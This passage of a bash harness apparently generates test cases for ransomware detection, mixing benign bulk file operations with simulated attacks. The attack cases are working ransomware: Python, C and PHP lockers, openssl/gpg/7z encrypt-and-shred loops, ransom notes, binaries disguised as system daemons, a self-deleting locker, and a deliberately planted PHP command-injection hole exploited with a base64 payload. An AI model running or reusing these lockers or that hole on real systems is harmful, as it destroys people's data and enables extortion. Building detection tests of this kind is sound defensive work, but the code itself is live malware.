        with open(f'/home/tomas/site/{d}/page-{i:03d}.html', 'w') as f:
            f.write('<html><body>\n' + ''.join(f'<p><a href="https://old.example.com/{d}/{r.randint(1,999)}">link</a> text {r.random()}</p>\n' for _ in range(r.randint(5, 60))) + '</body></html>\n')
P
  chown -R tomas: /home/tomas/site
}
sc_b45_ssh_sed_i_site() {
  sshx tomas "find ~/site -name '*.html' -exec sed -i 's#https://old.example.com#https://www.example.com#g' {} + && grep -rl www.example.com ~/site | wc -l"
  rm -rf /home/tomas/site
}
pre_b46_ssh_perl_pi_notes() {
  rm -rf /home/priya/notes; python3 - <<'P'
import os, random
r = random.Random(46)
for d in ['2025-q1', '2025-q2', '2025-q3', '2025-q4', 'meetings', 'ideas', 'reading', 'travel']:
    os.makedirs(f'/home/priya/notes/{d}', exist_ok=True)
    for i in range(22):
        with open(f'/home/priya/notes/{d}/note-{i:02d}.md', 'w') as f:
            f.write(f'# {d} {i}\n\n' + ''.join(f'- item {r.randint(1,99)} due 2025-{r.randint(1,12):02d}-{r.randint(1,28):02d}\n' for _ in range(r.randint(5, 40))))
P
  chown -R priya: /home/priya/notes
}
sc_b46_ssh_perl_pi_notes() {
  sshx priya "find ~/notes -name '*.md' -print0 | xargs -0 perl -pi -e 's/\\b2025-/2026-/g; s/\\s+\$/\\n/' && grep -rl 2026- ~/notes | wc -l"
  rm -rf /home/priya/notes
}
pre_b47_ssh_python_tmp_replace_json() {
  rm -rf /home/mkowalski/inventory; install -d -o mkowalski -g mkowalski /home/mkowalski/bin
  python3 - <<'P'
import json, os, random
r = random.Random(47)
for d in ['hosts', 'switches', 'printers', 'cameras', 'aps']:
    os.makedirs(f'/home/mkowalski/inventory/{d}', exist_ok=True)
    for i in range(40):
        with open(f'/home/mkowalski/inventory/{d}/{d[:-1]}-{i:03d}.json', 'w') as f:
            json.dump({'name': f'{d[:-1]}-{i:03d}', 'ip': f'10.{r.randint(0,9)}.{r.randint(0,255)}.{r.randint(1,254)}', 'tags': [r.choice(['a','b','c'])], 'schema': 1}, f)
P
  cat > /home/mkowalski/bin/migrate-inventory.py <<'P'
import json, os, sys
# schema 1 -> 2: write each record next to itself as F.tmp, fsync, then os.replace over F (atomic on one filesystem)
n = 0
for root, dirs, files in os.walk(sys.argv[1]):
    for name in sorted(files):
        if not name.endswith('.json'):
            continue
        p = os.path.join(root, name)
        with open(p) as f:
            rec = json.load(f)
        rec['schema'] = 2; rec['site'] = 'hq'; rec['tags'] = sorted(set(rec.get('tags', [])) | {'migrated'})
        tmp = p + '.tmp'
        with open(tmp, 'w') as f:
            json.dump(rec, f, indent=2, sort_keys=True); f.write('\n'); f.flush(); os.fsync(f.fileno())
        os.replace(tmp, p)
        n += 1
print(n, 'records migrated')
P
  chown -R mkowalski: /home/mkowalski/inventory /home/mkowalski/bin
}
sc_b47_ssh_python_tmp_replace_json() {
  sshx mkowalski 'python3 ~/bin/migrate-inventory.py ~/inventory'
  rm -rf /home/mkowalski/inventory /home/mkowalski/bin
}
pre_b48_ssh_dos2unix_tree() {
  rm -rf /home/tomas/import; python3 - <<'P'
import os, random
r = random.Random(48)
for d in ['csv', 'sql', 'scripts', 'config']:
    os.makedirs(f'/home/tomas/import/{d}', exist_ok=True)
    for i in range(40):
        with open(f'/home/tomas/import/{d}/part_{i:03d}.txt', 'w', newline='\r\n') as f:
            for _ in range(r.randint(20, 200)): f.write(';'.join(str(r.randint(0, 10**6)) for _ in range(8)) + '\n')
P
  chown -R tomas: /home/tomas/import
}
sc_b48_ssh_dos2unix_tree() {
  sshx tomas 'find ~/import -type f -exec dos2unix -q {} + && file ~/import/csv/part_000.txt'
  rm -rf /home/tomas/import
}
pre_b49_cron_borg_encrypted_backup() {
  rm -rf /srv/backup/borg /root/.config/borg /root/.cache/borg; mkdir -p /srv/backup
  BORG_PASSPHRASE=b0rg-nas-2050 borg init -e repokey /srv/backup/borg >/dev/null 2>&1
}
sc_b49_cron_borg_encrypted_backup() {
  rm -f /tmp/.b49-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root BORG_PASSPHRASE=b0rg-nas-2050 borg create --compression lz4 /srv/backup/borg::nas-{now:\%Y-\%m-\%d} /srv/nas/share /var/www/shop/uploads >/dev/null 2>&1; BORG_PASSPHRASE=b0rg-nas-2050 borg prune --keep-daily 7 /srv/backup/borg >/dev/null 2>&1; touch /tmp/.b49-done" > /etc/cron.d/borg-nightly
  wait_cron /tmp/.b49-done; sleep 2; rm -f /etc/cron.d/borg-nightly
  rm -rf /srv/backup/borg /srv/backup /root/.config/borg /root/.cache/borg
}

# ---- twelfth batch, attacks: intermittent (partial) encryption in place like LockBit/BlackCat (only the first 4 KiB
# of each file overwritten, O_RDWR, no truncation, then a rename), a compiled locker linked with libcrypto that deletes
# its own binary at start (no openssl CLI), and a find -print0 | while read -d '' loop of openssl enc + shred -u
sc_h32_ssh_python_intermittent() {
  install -d -m 755 /var/tmp/.pi
  cat > /var/tmp/.pi/ic.py <<'P'
import os, sys, hashlib
# intermittent: only the head of each file is encrypted (a keystream XOR), written back at offset 0 without truncation
key = hashlib.sha256(b'ic-4k-partial').digest()
def stream(n):
    out = b''; c = 0
    while len(out) < n:
        out += hashlib.sha256(key + c.to_bytes(8, 'big')).digest(); c += 1
    return out[:n]
for root, dirs, files in os.walk(sys.argv[1]):
    for n in files:
        if n.endswith('.bc7x') or n == 'RECOVER-BC7X.txt':
            continue
        p = os.path.join(root, n)
        fd = os.open(p, os.O_RDWR)
        head = os.pread(fd, 4096, 0)
        os.pwrite(fd, bytes(a ^ b for a, b in zip(head, stream(len(head)))), 0)
        os.close(fd)
        os.rename(p, p + '.bc7x')
    with open(os.path.join(root, 'RECOVER-BC7X.txt'), 'w') as f:
        f.write('Your files are encrypted (bc7x). Do not rename them. bc7x@onion.example\n')
P
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  sshx priya 'python3 /var/tmp/.pi/ic.py ~/work'
  rm -rf /var/tmp/.pi
}
pre_h33_ssh_sudo_selfdelete_libcrypto() {
  install -d -m 700 /root/.h33
  cat > /root/.h33/x.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static unsigned char key[32] = "0123456789abcdef0123456789abcdef", iv[16] = "fedcba9876543210";
static void lock(const char *p) {
  struct stat st; if (stat(p, &st) || st.st_size <= 0) return;
  unsigned char *in = malloc(st.st_size), *out = malloc(st.st_size + 32); int n1 = 0, n2 = 0;
  int fd = open(p, O_RDONLY); if (fd < 0) { free(in); free(out); return; }
  ssize_t r = read(fd, in, st.st_size); close(fd); if (r != st.st_size) { free(in); free(out); return; }
  EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new(); EVP_EncryptInit_ex(c, EVP_aes_256_ctr(), NULL, key, iv);
  EVP_EncryptUpdate(c, out, &n1, in, st.st_size); EVP_EncryptFinal_ex(c, out + n1, &n2); EVP_CIPHER_CTX_free(c);
  fd = open(p, O_WRONLY | O_TRUNC); if (fd >= 0) { write(fd, out, n1 + n2); close(fd); }
  char q[4200]; snprintf(q, sizeof q, "%s.x1lc", p); rename(p, q);
  free(in); free(out);
}
static void walk(const char *d) {
  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st;
  if (!dir) return;
  snprintf(p, sizeof p, "%s/X1LC-HELP.txt", d);
  FILE *f = fopen(p, "w"); if (f) { fputs("All files encrypted with AES-256. x1lc@onion.example\n", f); fclose(f); }
  while ((e = readdir(dir))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || strstr(e->d_name, ".x1lc") || !strcmp(e->d_name, "X1LC-HELP.txt")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name);
    if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
  }
  closedir(dir);
}
int main(int c, char **v) {
  char self[4096]; ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
  if (n > 0) { self[n] = 0; unlink(self); }   /* no binary left on disk */
  for (int i = 1; i < c; i++) walk(v[i]);
  return 0;
}
C
  gcc -O2 -o /root/.h33/x /root/.h33/x.c -lcrypto && rm -f /root/.h33/x.c
  install -m 755 /root/.h33/x /var/tmp/.h33-dbus-upd; rm -rf /root/.h33
}
sc_h33_ssh_sudo_selfdelete_libcrypto() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  # the dropper copies the binary to /tmp under a daemon's name and runs it; the binary unlinks itself at once
  sshx deploy 'sudo sh -c "cp /var/tmp/.h33-dbus-upd /tmp/.dbus-session-upd && rm -f /var/tmp/.h33-dbus-upd && /tmp/.dbus-session-upd /srv/nas/share"; ls /tmp/.dbus-session-upd 2>&1 | head -1'
  rm -f /var/tmp/.h33-dbus-upd /tmp/.dbus-session-upd
}
sc_h34_ssh_find_print0_openssl_shred() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'bash -c '\''while IFS= read -r -d "" f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Sh-0red -in "$f" -out "$f.sh0"; shred -u "$f"; done < <(find ~/Documents -type f -print0); for d in ~/Documents/*/; do echo "files encrypted and shredded: sh0@onion.example" > "$d/SH0-RESTORE.txt"; done'\'''
}
pre_b50_ssh_jpegoptim_photos() {
  rm -rf /home/tomas/Pictures; for d in 2026-09 2026-10 2026-11 2026-12; do mkdir -p /home/tomas/Pictures/$d
    for i in $(seq 1 40); do convert -size 320x240 xc:gray +noise Random -quality 95 /home/tomas/Pictures/$d/DSC_$((5200+i)).jpg; done; done
  chown -R tomas: /home/tomas/Pictures
}
sc_b50_ssh_jpegoptim_photos() {
  # lossless optimisation in place: Huffman tables re-optimised, metadata stripped, each photo replaced under its own name
  sshx tomas 'jpegoptim --strip-all --all-progressive -q ~/Pictures/*/*.jpg; ls ~/Pictures/*/*.jpg | wc -l'
  rm -rf /home/tomas/Pictures
}

# ---- thirteenth batch, look-alikes: a user moving his documents into a gocryptfs vault (the FUSE daemon writes
# encrypted, random-named files into the cipher dir while mv deletes the originals), rclone sync to a local crypt remote
# (encrypted names and content elsewhere, originals kept), rsnapshot rotating hard-link trees from root's cron, and a
# developer's make clean && make of a C project of 300 objects
pre_b51_ssh_gocryptfs_vault_move() {
  rm -rf /home/mkowalski/.vault-cipher /home/mkowalski/vault
  su - mkowalski -c 'umask 077; echo "v4ult-mk-2026" > ~/.vault-pw; mkdir -p ~/.vault-cipher ~/vault; gocryptfs -q -init -passfile ~/.vault-pw ~/.vault-cipher' >/dev/null 2>&1
}
sc_b51_ssh_gocryptfs_vault_move() {
  sshx mkowalski 'gocryptfs -q -passfile ~/.vault-pw ~/.vault-cipher ~/vault && mv ~/Documents/* ~/vault/ && find ~/vault -type f | wc -l && sync && fusermount -u ~/vault; find ~/.vault-cipher -type f | wc -l'
  sleep 1; fusermount -u /home/mkowalski/vault 2>/dev/null
  rm -rf /home/mkowalski/.vault-cipher /home/mkowalski/vault /home/mkowalski/.vault-pw
}
pre_b52_ssh_rclone_crypt_sync() {
  rm -rf /home/priya/backup-crypt /home/priya/.config/rclone
  su - priya -c 'rclone config create secret crypt remote=/home/priya/backup-crypt password=$(rclone obscure pr1ya-crypt) password2=$(rclone obscure s4lt-pr) >/dev/null'
}
sc_b52_ssh_rclone_crypt_sync() {
  sshx priya 'rclone sync ~/work secret:work && rclone ls secret:work | wc -l && find ~/backup-crypt -type f | head -2'
  rm -rf /home/priya/backup-crypt /home/priya/.config/rclone
}
pre_b53_cron_rsnapshot_rotate() {
  rm -rf /srv/snapshots; mkdir -p /srv/snapshots
  printf 'config_version\t1.2\nsnapshot_root\t/srv/snapshots/\nno_create_root\t1\ncmd_cp\t/bin/cp\ncmd_rm\t/bin/rm\ncmd_rsync\t/usr/bin/rsync\nretain\tdaily\t4\nlockfile\t/run/rsnapshot-nas.pid\nbackup\t/srv/nas/share/\tnas/\nbackup\t/var/www/shop/uploads/\tweb/\nbackup\t/home/priya/work/\tpriya/\n' > /etc/rsnapshot-nas.conf
  for i in 1 2 3; do rsnapshot -c /etc/rsnapshot-nas.conf daily >/dev/null 2>&1; done
  # a day's work on the share: 30 files edited, 6 added, so the night's rsync has something to copy
  find /srv/nas/share -type f | head -30 | while read -r f; do head -c 3000 /dev/urandom >> "$f"; done
  for i in 1 2 3 4 5 6; do head -c 9000 /dev/urandom > /srv/nas/share/scans_1/new_scan_$i.pdf; done
}
sc_b53_cron_rsnapshot_rotate() {
  rm -f /tmp/.b53-done
  read m h < <(cron_at_next_minute)
  echo "$m $h * * * root /usr/bin/rsnapshot -c /etc/rsnapshot-nas.conf daily >/dev/null 2>&1; touch /tmp/.b53-done" > /etc/cron.d/rsnapshot-nas
  wait_cron /tmp/.b53-done; sleep 2; rm -f /etc/cron.d/rsnapshot-nas
  ls /srv/snapshots >> $CASE/facts
  rm -rf /srv/snapshots /etc/rsnapshot-nas.conf
}
pre_b54_ssh_make_clean_rebuild() {
  rm -rf /home/tomas/proj; mkdir -p /home/tomas/proj/src
  for i in $(seq -w 1 300); do printf '#include "util.h"\nint f%s(int x) { return util_mix(x, %d); }\n' $i $((10#$i)) > /home/tomas/proj/src/m$i.c; done
  printf 'static inline int util_mix(int a, int b) { return a * 31 + b; }\n' > /home/tomas/proj/src/util.h
  printf 'int f001(int);\nint main(void) { return f001(1) & 1; }\n' > /home/tomas/proj/src/main.c
  printf 'SRC := $(wildcard src/*.c)\nOBJ := $(SRC:src/%%.c=obj/%%.o)\nbin/app: $(OBJ)\n\t@mkdir -p bin\n\t$(CC) -o $@ $(OBJ)\nobj/%%.o: src/%%.c src/util.h\n\t@mkdir -p obj\n\t$(CC) -O1 -c -o $@ $<\nclean:\n\trm -rf obj bin\n.PHONY: clean\n' > /home/tomas/proj/Makefile
  chown -R tomas: /home/tomas/proj
  su - tomas -c 'make -s -C ~/proj -j2 >/dev/null 2>&1'
}
sc_b54_ssh_make_clean_rebuild() {
  sshx tomas 'cd ~/proj && make clean && make -s -j2 && ls obj | wc -l'
  rm -rf /home/tomas/proj
}

# ---- thirteenth batch, attacks: a locker inside a container-like root (unshare + chroot, started by a root daemon with
# no login uid, the share bind-mounted into the chroot: the log has the container's paths), a locker queued with at by a
# logged-in user, and asymmetric per-file encryption with openssl cms -encrypt to the attacker's certificate
pre_h35_root_unshare_chroot_locker() {
  rm -rf /srv/rootfs; mkdir -p /srv/rootfs/{bin,usr/bin,data,tmp,proc,dev,lib/x86_64-linux-gnu,lib64}
  for b in /bin/dash /usr/bin/openssl /usr/bin/find /bin/rm /bin/cat; do cp "$b" /srv/rootfs/usr/bin/; done
  ln -s dash /srv/rootfs/usr/bin/sh; for b in sh rm cat; do ln -s ../usr/bin/$b /srv/rootfs/bin/$b; done
  for l in $(ldd /usr/bin/openssl /usr/bin/find /bin/dash /bin/rm | grep -o '/lib[^ ]*' | sort -u); do cp "$l" /srv/rootfs$l; done
  cat > /srv/rootfs/run.sh <<'S'
find /data -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:ctr-k3y -in "$f" -out "$f.ctnr" && rm -f "$f"; done
find /data -type d | while read -r d; do echo "Your NAS is encrypted. ctnr@onion.example" > "$d/READ-ME-CTNR.txt"; done
S
}
sc_h35_root_unshare_chroot_locker() {
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
  rm -f /tmp/.h35-done
  # an exploited root service (no login uid) starts a throw-away container over the share: new mount and pid namespaces
  setsid sh -c 'unshare --mount --pid --fork sh -c "mount --bind /srv/nas/share /srv/rootfs/data && exec chroot /srv/rootfs /bin/sh /run.sh"; touch /tmp/.h35-done' </dev/null >/dev/null 2>&1 &
  wait_cron /tmp/.h35-done; sleep 1
  rm -rf /srv/rootfs /tmp/.h35-done
}
pre_h36_ssh_at_job_locker() { pgrep -x atd >/dev/null || /usr/sbin/atd 3>&- 9>&-; }
sc_h36_ssh_at_job_locker() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
  rm -f /tmp/.h36-done
  # priya queues the job and logs out; atd runs it a moment later
  sshx priya 'cat > /var/tmp/.sync-cache.sh <<"S"
for f in $(find ~/work -type f); do gpg --batch --yes --pinentry-mode loopback --passphrase "At-j0b" -c -o "$f.atq" "$f" && rm -f "$f"; done
for d in ~/work/*/; do echo "files locked. atq@onion.example" > "$d/ATQ-RECOVER.txt"; done
rm -f /var/tmp/.sync-cache.sh; touch /tmp/.h36-done
S
echo "sh /var/tmp/.sync-cache.sh" | at now 2>&1'
  wait_cron /tmp/.h36-done; sleep 1
  rm -f /tmp/.h36-done
}
pre_h37_ssh_openssl_cms_pubkey() {
  rm -rf /var/tmp/.cm; install -d -m 755 /var/tmp/.cm
  openssl req -x509 -newkey rsa:2048 -nodes -keyout /var/tmp/.cm/k.pem -out /var/tmp/.cm/pub.crt -subj "/CN=p7" -days 30 >/dev/null 2>&1
  rm -f /var/tmp/.cm/k.pem; chmod 644 /var/tmp/.cm/pub.crt
}
sc_h37_ssh_openssl_cms_pubkey() {
  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
  sshx mkowalski 'cp /var/tmp/.cm/pub.crt /dev/shm/.p; find ~/Documents -type f | while read -r f; do openssl cms -encrypt -binary -aes256 -outform DER -in "$f" -out "$f.p7e" /dev/shm/.p && rm -f "$f"; done; for d in ~/Documents/*/; do echo "Encrypted with RSA-2048. Only we hold the key: p7e@onion.example" > "$d/P7E-README.txt"; done; rm -f /dev/shm/.p'
  rm -rf /var/tmp/.cm
}

# ---- thirteenth batch, optional attack: a compiled locker that forks 8 workers (no exec: the workers are the same
# binary), each taking the next directory of the share; the parent writes the notes
pre_h38_ssh_sudo_forked_workers() {
  install -d -m 700 /root/.h38
  cat > /root/.h38/w.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
static void lock(const char *p) {
  struct stat st; if (stat(p, &st) || st.st_size <= 0) return;
  unsigned char *b = malloc(st.st_size); int fd = open(p, O_RDONLY); if (fd < 0) { free(b); return; }
  ssize_t r = read(fd, b, st.st_size); close(fd); if (r != st.st_size) { free(b); return; }
  unsigned int s = 0x9e3779b9u; for (off_t i = 0; i < st.st_size; i++) { s = s * 1103515245u + 12345u; b[i] ^= (unsigned char)(s >> 16); }
  fd = open(p, O_WRONLY | O_TRUNC); if (fd >= 0) { write(fd, b, st.st_size); close(fd); }
  char q[4200]; snprintf(q, sizeof q, "%s.w8x", p); rename(p, q); free(b);
}
static void walk(const char *d) {
  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
  while ((e = readdir(dir))) {
    if (e->d_name[0] == '.' || strstr(e->d_name, ".w8x") || !strcmp(e->d_name, "W8-DECRYPT.txt")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
  }
  closedir(dir);
}
int main(int c, char **v) {
  char *dirs[256]; int n = 0;
  for (int a = 1; a < c; a++) {
    DIR *dir = opendir(v[a]); struct dirent *e; if (!dir) continue;
    while ((e = readdir(dir)) && n < 256) if (e->d_type == DT_DIR && e->d_name[0] != '.') {
      dirs[n] = malloc(4096); snprintf(dirs[n], 4096, "%s/%s", v[a], e->d_name); n++; }
    closedir(dir);
  }
  int running = 0;
  for (int i = 0; i < n; i++) {
    if (running == 8) { wait(NULL); running--; }
    pid_t pid = fork();
    if (pid == 0) { walk(dirs[i]); _exit(0); }
    if (pid > 0) running++;
  }
  while (running-- > 0) wait(NULL);
  for (int i = 0; i < n; i++) { char p[4200]; snprintf(p, sizeof p, "%s/W8-DECRYPT.txt", dirs[i]);
    FILE *f = fopen(p, "w"); if (f) { fputs("8 workers encrypted this share. w8@onion.example\n", f); fclose(f); } }
  return 0;
}
C
  gcc -O2 -o /root/.h38/w /root/.h38/w.c && install -m 755 /root/.h38/w /var/tmp/.w8-indexer; rm -rf /root/.h38
}
sc_h38_ssh_sudo_forked_workers() {
  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -mindepth 1 -type d | wc -l) + $(find /var/www/shop/uploads -mindepth 1 -type d | wc -l) ))" > $CASE/facts
  sshx deploy 'sudo /var/tmp/.w8-indexer /srv/nas/share /var/www/shop/uploads'
  rm -f /var/tmp/.w8-indexer
}

# ---- fourteenth batch, attacks: a PHP web app served by a root-started daemon as www-data (no login uid anywhere) whose
# command-injection bug runs a PHP locker over the uploads and the share www-data can write; a non-interactive
# `ssh … 'bash -s' < script` locker over file names with spaces and UTF-8; root's cron dropping to svc-nas with runuser
# for a per-file `7z -p -mhe=on` + rm; a Babuk-like compiled locker renaming each file first, then rewriting it in place
pre_h39_root_setsid_php_webshell() {
  rm -rf /var/www/shop/public; install -d -o root -g root -m 755 /var/www/shop/public
  cat > /var/www/shop/public/index.php <<'P'
<?php echo "<h1>Shop status</h1><a href=tools.php?host=localhost>network check</a>";
P
  # the bug: an admin "network check" page that pastes the query string into a shell command
  cat > /var/www/shop/public/tools.php <<'P'
<?php $h = $_GET['host'] ?? 'localhost'; header('Content-Type: text/plain'); echo shell_exec("ping -c 1 -W 1 " . $h . " 2>&1");
P
  # the share group-writable for the web app's exports (the admin's convenience)
  chgrp -R www-data /srv/nas/share; chmod -R g+rwX /srv/nas/share
  H39_PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
}
sc_h39_root_setsid_php_webshell() {
  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /var/www/shop/uploads -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /var/www/shop/uploads -type d | wc -l) ))" > $CASE/facts
  # the shop's web server: started at boot by a root init script (setsid, no login uid), serving as www-data
  setsid runuser -u www-data -- php -S 127.0.0.1:$H39_PORT -t /var/www/shop/public </dev/null >/dev/null 2>&1 &
  local web=$!
  for i in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$H39_PORT/" && break; sleep 0.2; done
  curl -s "http://127.0.0.1:$H39_PORT/" >/dev/null
  # the intruder's request: the injected command writes a PHP locker to /tmp and runs it with php
  local payload
  payload=$(base64 -w0 <<'L'
<?php
$key = hash('sha256', 'w3b-sh3ll-k', true);
foreach (['/var/www/shop/uploads', '/srv/nas/share'] as $root) {
  $it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root, FilesystemIterator::SKIP_DOTS), RecursiveIteratorIterator::SELF_FIRST);
  foreach ($it as $p => $info) {
    if ($info->isDir()) { @file_put_contents("$p/READ_ME_WSH.html", "<h1>Your files are encrypted</h1><p>wsh@onion.example</p>"); continue; }
    if (str_ends_with($p, '.wsh') || basename($p) === 'READ_ME_WSH.html' || !$info->isFile()) continue;
    $iv = random_bytes(12); $tag = '';
    $c = openssl_encrypt(file_get_contents($p), 'aes-256-gcm', $key, OPENSSL_RAW_DATA, $iv, $tag);
    if ($c !== false && file_put_contents("$p.wsh", $iv . $tag . $c) !== false) unlink($p);
  }
  @file_put_contents("$root/READ_ME_WSH.html", "<h1>Your files are encrypted</h1><p>wsh@onion.example</p>");
}
L
)
  curl -s -G --max-time 120 --data-urlencode "host=127.0.0.1; echo $payload | base64 -d > /tmp/.sess_9f2c1; php /tmp/.sess_9f2c1; rm -f /tmp/.sess_9f2c1" "http://127.0.0.1:$H39_PORT/tools.php" | tail -1
  sleep 1; kill -- -$web 2>/dev/null; sleep 0.5
  rm -rf /var/www/shop/public
}
pre_h40_ssh_bash_s_utf8_names() {
  # a user's real folder names: spaces, umlauts, Cyrillic and CJK (the log hex-encodes them)
  local w=/home/priya/work
  mkdir -p "$w/Rechnungen März 2026" "$w/Отчёты" "$w/資料 Q4"
  for n in "Angebot Müller GmbH.pdf" "Übersicht Kosten.xlsx" "Straße & Hausnummer.csv"; do head -c 12000 /dev/urandom > "$w/Rechnungen März 2026/$n"; done
  for n in "отчёт за ноябрь.docx" "бюджет 2027.xlsx" "план.txt"; do head -c 9000 /dev/urandom > "$w/Отчёты/$n"; done
  for n in "見積書 最終.pdf" "議事録 12月.docx"; do head -c 15000 /dev/urandom > "$w/資料 Q4/$n"; done
  head -c 5000 /dev/urandom > "$w/résumé final (v2).odt"
  chown -R priya: $w
  cat > /var/tmp/.h40-l.sh <<'S'
cd ~/work || exit 1
find . -type f -print0 | while IFS= read -r -d '' f; do
  openssl aes-256-cbc -salt -pbkdf2 -k 'Ut8-n4mes' -in "$f" -out "$f.locked" && rm -f "$f"
done
find . -type d -print0 | while IFS= read -r -d '' d; do printf 'Ваши файлы зашифрованы. Your files are encrypted: utf8@onion.example\n' > "$d/README – restore files.txt"; done
S
}
sc_h40_ssh_bash_s_utf8_names() {
  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
  # no tty, no interactive shell: the script is fed to bash -s on the ssh channel's stdin
  sshx priya 'bash -s' < /var/tmp/.h40-l.sh
  rm -f /var/tmp/.h40-l.sh
}
sc_h41_cron_root_runuser_7z() {
  rm -f /tmp/.h41-done
  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
  read m h < <(cron_at_next_minute)
  cat > /etc/cron.d/nas-compact <<'CR'
MM HH * * * root /usr/sbin/runuser -u svc-nas -- sh -c 'cd /srv/nas/share && find . -type f ! -name "*.7z" | while read -r f; do 7z a -bso0 -bsp0 -p"Q7-s3rv1ce" -mhe=on "$f.7z" "$f" && rm -f "$f"; done; for d in */; do echo "All files are packed with a password. q7@onion.example" > "$d/!RESTORE-7Z!.txt"; done'; touch /tmp/.h41-done
CR
  sed -i "s/^MM HH/$m $h/" /etc/cron.d/nas-compact
  wait_cron /tmp/.h41-done; sleep 2; rm -f /etc/cron.d/nas-compact
}
pre_h42_ssh_sudo_babuk_rename_first() {
  install -d -m 700 /root/.h42
  cat > /root/.h42/b.c <<'C'
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
static const char *NOTE = "How To Restore Your Files.txt";
static void lock(const char *p) {
  char q[4200]; snprintf(q, sizeof q, "%s.babyk", p);
  if (rename(p, q)) return;                       /* rename first: the name is taken before a byte changes */
  int fd = open(q, O_RDWR); if (fd < 0) return;   /* then a second open rewrites it in place */
  struct stat st; if (fstat(fd, &st) || st.st_size <= 0) { close(fd); return; }
  unsigned char *b = malloc(st.st_size); ssize_t r = pread(fd, b, st.st_size, 0);
  if (r == st.st_size) { unsigned int s = 0x2545f491u;
    for (off_t i = 0; i < st.st_size; i++) { s ^= s << 13; s ^= s >> 17; s ^= s << 5; b[i] ^= (unsigned char)s; }
    pwrite(fd, b, st.st_size, 0); fsync(fd); }
  free(b); close(fd);
}
static void walk(const char *d) {
  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st; if (!dir) return;
  snprintf(p, sizeof p, "%s/%s", d, NOTE);
  FILE *f = fopen(p, "w"); if (f) { fputs("Your files are encrypted (Curve25519 + ChaCha). Contact babyk@onion.example\n", f); fclose(f); }
  while ((e = readdir(dir))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, NOTE) || strstr(e->d_name, ".babyk")) continue;
    snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (lstat(p, &st)) continue;
    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
  }
  closedir(dir);
}
int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
C
  gcc -O2 -o /root/.h42/b /root/.h42/b.c && install -m 755 /root/.h42/b /usr/local/sbin/e2scrub-helper; rm -rf /root/.h42
}
sc_h42_ssh_sudo_babuk_rename_first() {
  echo "files $(( $(find /srv/nas/share -type f | wc -l) + $(find /home/mkowalski/Documents -type f | wc -l) )) dirs $(( $(find /srv/nas/share -type d | wc -l) + $(find /home/mkowalski/Documents -type d | wc -l) ))" > $CASE/facts
  sshx mkowalski 'sudo nohup /usr/local/sbin/e2scrub-helper /srv/nas/share /home/mkowalski/Documents >/dev/null 2>&1; echo rc=$?'
  rm -f /usr/local/sbin/e2scrub-helper
}

# ---- fourteenth batch, look-alikes: duplicity's encrypted backup of a home (full, then incremental; originals kept),
# a new release of a source tree unpacked with tar xJf and the old tree removed (thousands of creates and deletes),
# root's daily maintenance (run-parts /etc/cron.daily: man-db, plocate's updatedb, dpkg's backups, logrotate; the
# system rule set watches /var/lib, /var/cache and /var/backups) and an admin encrypting 8 exports to the ops key with
# gpg -r and shredding the originals — the mirror image of an attack, done on purpose on a handful of files
sc_b55_ssh_duplicity_home() {
